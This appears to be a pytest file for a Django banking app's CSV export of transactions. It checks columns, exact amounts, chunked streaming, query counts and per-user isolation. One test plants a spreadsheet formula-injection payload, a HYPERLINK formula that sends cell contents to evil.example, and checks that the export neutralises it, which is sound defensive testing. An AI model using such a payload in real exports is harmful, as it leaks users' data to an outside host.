"""The CSV export of transactions, parsed with the standard library's reader."""

import csv
import gc
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from itertools import islice
from uuid import UUID, uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import User
from banking.models import Account, Item, Transaction
from banking.tests.factories import build_transaction, make_account, make_transaction, make_transactions
from banking.transactions import csv_export
from compliance.isolation import current_tenant

pytestmark = pytest.mark.django_db

# More than any file here has, so that an endless export fails its test.
MAX_LINES = 5000


@pytest.fixture
def account(item: Item) -> Account:
    return make_account(item)


def export_rows(user: User) -> list[list[str]]:
    rows = Transaction.objects.for_user(user).current().select_related("account")
    return list(islice(csv.reader(csv_export.csv_lines(owner_id=user.pk, rows=rows)), MAX_LINES))


def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
    row = make_transaction(
        account,
        "-4.33",
        merchant_name="Starbucks",
        day=date(2026, 11, 9),
        date=date(2026, 11, 10),
        category="FOOD_AND_DRINK",
        user_category="TRAVEL",
        note="Flughafen, Tor „B“",
    )
    head, body = export_rows(alice)
    assert dict(zip(head, body, strict=True)) == {
        "Date": "2026-11-09",
        "Posted": "2026-11-10",
        "Description": "Starbucks",
        "Category": "Travel",
        "Account": "Checking ••0000",
        "Amount": "-4.33",
        "Currency": "USD",
        "Status": "posted",
        "Note": "Flughafen, Tor „B“",
        "ID": str(row.pk),
    }


def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account) -> None:
    make_transaction(account, "-4.33", pending=True)
    head, body = export_rows(alice)
    facts = dict(zip(head, body, strict=True))
    assert (facts["Posted"], facts["Status"]) == ("", "pending")


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        ("-4.33", "-4.33"),
        ("100", "100"),
        ("1200000", "1200000"),
        ("0", "0"),
        ("0.1", "0.1"),
        ("-0.0000000001", "-0.0000000001"),
        ("-115.57268", "-115.57268"),
        ("90071992547409.93", "90071992547409.93"),
        ("-123456789012345678.0123456789", "-123456789012345678.0123456789"),
    ],
)
def test_it_writes_an_amount_with_all_its_digits_and_no_others(
    alice: User, account: Account, amount: str, text: str
) -> None:
    make_transaction(account, amount)
    head, body = export_rows(alice)
    assert body[head.index("Amount")] == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    account = make_account(item, name=attack, mask="", currency=f"{start}1+1")
    make_transaction(account, "-1", merchant_name=attack, category=attack, note=attack)
    head, body = export_rows(alice)
    facts = dict(zip(head, body, strict=True))
    # Categories are shown as labels, in another case.
    assert facts["Category"].startswith(f"'{start}")
    assert [facts[name] for name in ("Description", "Account", "Note", "Currency", "Amount")] == [
        f"'{attack}",
        f"'{attack}",
        f"'{attack}",
        f"'{start}1+1",
        "-1",
    ]


def test_it_keeps_a_text_that_looks_like_several_cells_in_one(alice: User, account: Account) -> None:
    note = 'a,"b"\r\n=c;d\te'
    make_transaction(account, "-1", note=note)
    head, *bodies = export_rows(alice)
    assert [dict(zip(head, body, strict=True))["Note"] for body in bodies] == [note]


def test_it_writes_only_the_head_when_there_is_nothing(alice: User) -> None:
    assert export_rows(alice) == [list(csv_export.COLUMNS)]


def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User, account: Account) -> None:
    first = date(2026, 1, 1)
    # Seven days for 2,001 rows, so that every chunk ends in the middle of a day.
    rows = [build_transaction(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
    make_transactions(account, rows)
    _, *bodies = export_rows(alice)
    expected = sorted(rows, key=lambda row: (row.day, row.id.int), reverse=True)
    assert [UUID(body[-1]) for body in bodies] == [row.id for row in expected]
    assert sum(Decimal(body[5]) for body in bodies) == -sum(range(1, 2002))


def test_it_holds_no_more_than_a_chunk_in_memory(
    alice: User, account: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
    make_transactions(account, [build_transaction(account, "-1") for _ in range(500)])
    rows = Transaction.objects.for_user(alice).select_related("account")
    gc.collect()
    # Whatever the process holds by now is not looked at again for every line.
    gc.freeze()
    try:
        lines = csv_export.csv_lines(owner_id=alice.pk, rows=rows)
        most = max(sum(type(thing) is Transaction for thing in gc.get_objects()) for _ in lines)
    finally:
        gc.unfreeze()
    # The previous chunk and the current one, each with the one row more that tells whether another page follows.
    assert most <= 2 * (50 + 1)


def test_it_asks_once_for_each_chunk(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 10)
    make_transactions(account, [build_transaction(account, "-1") for _ in range(30)])
    with CaptureQueriesContext(connection) as asked:
        export_rows(alice)
    assert sum(query["sql"].startswith("SELECT") for query in asked) == 3


@pytest.mark.django_db(transaction=True)
def test_it_leaves_neither_a_transaction_nor_a_tenant_open_between_lines(alice: User, account: Account) -> None:
    make_transaction(account, "-1", removed_at=datetime(2026, 11, 20, tzinfo=UTC))
    make_transactions(account, [build_transaction(account, "-1") for _ in range(3)])
    rows = Transaction.objects.for_user(alice).select_related("account")
    seen = [(connection.in_atomic_block, current_tenant()) for _ in csv_export.csv_lines(owner_id=alice.pk, rows=rows)]
    assert seen
    assert set(seen) == {(False, None)}


def test_it_writes_no_row_of_somebody_else(mallory: User, account: Account) -> None:
    make_transaction(account, "-1")
    assert export_rows(mallory) == [list(csv_export.COLUMNS)]
